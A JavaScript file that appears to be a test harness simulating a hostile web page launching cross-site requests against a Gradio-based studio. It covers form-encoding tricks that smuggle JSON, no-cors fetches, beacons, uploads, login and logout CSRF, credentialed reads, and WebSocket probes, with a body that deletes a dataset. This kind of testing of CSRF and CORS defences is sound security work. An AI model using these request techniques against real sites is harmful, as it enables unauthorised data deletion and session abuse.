// What a page of other people tries against the studio at `target`; `body` removes a dataset.

window.prepare = (target, body, image) => {
  const api = target + '/gradio_api';
  const plain = {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'}, body};
  const json = {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'}, body};
  const frame = () => { const made = document.createElement('iframe'); made.name = 'f' + Math.random(); document.body.append(made); return made; };
  function submit(path, kind, fields, method = 'POST') {
    const shown = frame(), form = document.createElement('form');
    Object.assign(form, {action: target + path, method, enctype: kind, target: shown.name});
    for (const [name, value] of Object.entries(fields)) { const input = document.createElement('input'); Object.assign(input, {type: 'hidden', name, value}); form.append(input); }
    document.body.append(form); form.submit();
    return new Promise(done => { shown.onload = () => done('sent'); setTimeout(() => done('sent'), 1500); });
  }
  const loaded = (tag, path) => new Promise(done => { const made = document.createElement(tag); made.onload = () => done('worked'); made.onerror = () => done('failed'); made.src = target + path; document.body.append(made); });
  const read = async (path, options = {credentials: 'include'}) => { const answer = await fetch(target + path, options); return answer.ok ? 'worked' : 'failed'; };
  const file = () => { const data = new FormData(); data.append('files', new Blob(['x'.repeat(99)]), 'stolen.npz'); return data; };
  const calls = {
    'form': () => { const cut = body.lastIndexOf('}'); return submit('/gradio_api/component_server', 'text/plain', {[body.slice(0, cut) + ',"x":"']: '"}'}); },
    'form-multipart': () => submit('/gradio_api/component_server', 'multipart/form-data', JSON.parse(body)),
    'no-cors': async () => { await fetch(api + '/component_server', plain); return 'sent'; },
    'cors': () => read('/gradio_api/component_server', json),
    'beacon': () => navigator.sendBeacon(api + '/component_server', new Blob([body], {type: 'text/plain'})) ? 'sent' : 'failed',
    'upload': async () => { await fetch(api + '/upload', {method: 'POST', mode: 'no-cors', credentials: 'include', body: file()}); return 'sent'; },
    'queue': () => read('/gradio_api/queue/join', {...json, body: JSON.stringify({data: [], fn_index: 0, session_hash: 's'})}),
    'run': () => read('/gradio_api/run/predict', {...json, body: JSON.stringify({data: [], fn_index: 0})}),
    'login': () => submit('/login', 'application/x-www-form-urlencoded', {username: 'eve', password: 'guess'}),
    'logout': () => submit('/logout', 'application/x-www-form-urlencoded', {}, 'GET'),
    'read': () => read('/gradio_api/cad/state'),
    'config': () => read('/config'),
    'events': () => new Promise(done => { const source = new EventSource(api + '/heartbeat/s', {withCredentials: true}); source.onmessage = () => { source.close(); done('worked'); }; source.onerror = () => { source.close(); done('failed'); }; }),
    'image': () => loaded('img', image),
    'script': () => loaded('script', '/gradio_api/cad/state'),
    'socket': () => new Promise(done => { const made = new WebSocket(target.replace('http', 'ws') + '/gradio_api/queue/join'); made.onopen = () => done('worked'); made.onerror = () => done('failed'); }),
  };
  window.attack = async name => { try { return await calls[name](); } catch (error) { return 'failed'; } };
};
